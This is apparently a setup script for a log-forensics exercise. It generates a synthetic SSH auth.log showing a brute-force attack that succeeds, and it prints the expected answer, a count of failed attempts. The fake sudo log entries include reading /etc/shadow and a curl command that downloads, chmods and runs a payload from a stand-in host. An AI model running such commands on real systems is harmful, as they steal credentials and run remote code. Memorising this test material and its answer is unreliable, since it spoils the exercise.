set -e
mkdir -p /app/logs
python3 - <<'PY'
import random, datetime
r = random.Random(99)
t = datetime.datetime(2024, 3, 1, 0, 0, 0)
lines = []
def emit(msg, prog="sshd"):
    global t
    t += datetime.timedelta(seconds=r.randint(1, 40))
    pid = r.randint(1000, 30000)
    lines.append(f"{t.strftime('%b')} {t.day:2d} {t.strftime('%H:%M:%S')} bastion {prog}[{pid}]: {msg}")
attackers = ["185.220.101.4", "45.155.205.99", "91.240.118.7", "193.32.162.51"]
winner = "91.240.118.7"
users = ["root", "admin", "ubuntu", "deploy", "postgres", "invalid user test"]
fails_before = 0
done = False
for step in range(1400):
    x = r.random()
    if x < 0.8:
        ip = r.choice(attackers)
        if ip == winner and done is False and step > 900:
            emit(f"Accepted password for deploy from {ip} port {r.randint(1024,65535)} ssh2")
            emit("pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
            done = True
            for cmd in ["/usr/bin/id", "/usr/bin/cat /etc/shadow", "/usr/bin/curl -o /tmp/.x http://203.0.113.9/x", "/usr/bin/chmod +x /tmp/.x", "/tmp/.x"]:
                emit(f"   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}", prog="sudo")
            continue
        if ip == winner and done:
            continue
        emit(f"Failed password for {r.choice(users)} from {ip} port {r.randint(1024,65535)} ssh2")
        if ip == winner:
            fails_before += 1
    elif x < 0.9:
        ip = r.choice(["10.20.0.11", "10.20.0.12"])
        u = {"10.20.0.11": "alice", "10.20.0.12": "bob"}[ip]
        emit(f"Accepted password for {u} from {ip} port {r.randint(1024,65535)} ssh2")
        if r.random() < 0.5:
            emit(f"   {u} : TTY=pts/0 ; PWD=/home/{u} ; USER=root ; COMMAND=/usr/bin/systemctl restart app", prog="sudo")
    else:
        emit(f"Connection closed by {r.choice(attackers)} port {r.randint(1024,65535)} [preauth]")
assert done
open("/app/logs/auth.log", "w").write("\n".join(lines) + "\n")
print(fails_before)
PY
